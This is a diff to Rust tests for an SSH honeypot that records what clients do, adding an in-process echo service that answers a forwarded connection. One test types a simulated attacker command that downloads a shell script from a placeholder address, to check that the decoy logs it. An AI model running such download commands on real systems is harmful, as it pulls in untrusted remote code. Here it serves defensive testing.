@@ -1,8 +1,13 @@
 //! OpenSSH's own client, nmap, and what they leave in the records.
 
 use super::{Decoy, QUICK, of, run, stream, text};
-use glasshive_event::Kind;
+use crate::conn::Conn;
+use crate::recorder::BoxFuture;
+use crate::services::{Outcome, Service};
+use crate::session::{Route, Router, Session};
+use glasshive_event::{Kind, Transport};
 use std::process::{Command, Stdio};
+use std::sync::Arc;
 
 const PASSWORD: [&str; 4] = ["-o", "PreferredAuthentications=password", "-o", "NumberOfPasswordPrompts=1"];
 
@@ -68,7 +73,7 @@ async fn a_terminal() {
     let output = decoy.ssh("toor", &with(&["-tt", "root@127.0.0.1"]), b"echo \"a\"b\rwget http://192.0.2.9/x.sh\rexit 3\r").await;
     assert_eq!(output.status.code(), Some(3), "{}", text(&output.stderr));
     let shown = text(&output.stdout);
-    assert!(shown.contains("\r\nab\r\n") && shown.contains("root@web-1:~# "), "{shown:?}");
+    assert!(shown.contains("\rab\r\n") && shown.contains("root@web-1:~# "), "{shown:?}");
     let seen = decoy.closed(1).await;
     let commands: Vec<_> = of(&seen, Kind::Command).iter().map(|c| c.detail["input"].as_str().unwrap().to_owned()).collect();
     assert_eq!(commands, ["echo \"a\"b", "wget http://192.0.2.9/x.sh", "exit 3"]);
@@ -143,6 +148,49 @@ async fn forwards_are_recorded_and_lead_nowhere() {
     assert_eq!(facts, [("direct-tcpip", 80), ("tcpip-forward", 18_080)]);
     assert!(forwards.iter().all(|f| f.detail["answered"] == false));
     assert_eq!(forwards[0].detail["host"], "192.0.2.77");
+}
+
+/// Says hello, then everything back.
+struct Echo;
+
+impl Service for Echo {
+    fn serve(&self, mut conn: Conn, _: Session) -> BoxFuture<'static, Outcome> {
+        Box::pin(async move {
+            let _ = tokio::io::AsyncWriteExt::write_all(&mut conn, b"hello\n").await;
+            let (mut read, mut write) = tokio::io::split(conn);
+            let _ = tokio::io::copy(&mut read, &mut write).await;
+            Outcome::Client
+        })
+    }
+}
+
+impl Router for Echo {
+    fn route(&self, from: &Arc<crate::persona::Decoy>, host: &str, port: u16, _: Transport) -> Option<Route> {
+        (host == "10.0.0.9" && port == 7).then(|| Route {
+            decoy: Arc::clone(from),
+            service_name: "echo",
+            service: Arc::new(Echo),
+            address: ([10, 0, 0, 9], 7).into(),
+        })
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_own_service_answers_a_forward_in_process() {
+    let decoy = Decoy::start(QUICK).await;
+    decoy.kit.route(Arc::new(Echo));
+    let payload = vec![b'z'; 3_000_000];
+    let output = decoy.ssh("toor", &with(&["-W", "10.0.0.9:7", "root@127.0.0.1"]), &payload).await;
+    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
+    assert_eq!(output.stdout.len(), payload.len() + 6);
+    let seen = decoy.closed(2).await;
+    let forward = of(&seen, Kind::Forward)[0];
+    assert_eq!(forward.detail["answered"], true);
+    let inner = seen.iter().find(|s| s.kind == Kind::SessionOpen && s.envelope.service.as_deref() == Some("echo")).unwrap();
+    assert_eq!(forward.detail["child"], inner.envelope.session.unwrap().to_string());
+    assert_eq!(inner.envelope.parent, forward.envelope.session);
+    assert_eq!(stream(&seen, "tcp", "in"), payload);
+    assert_eq!(stream(&seen, "tcp", "out").len(), payload.len() + 6);
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
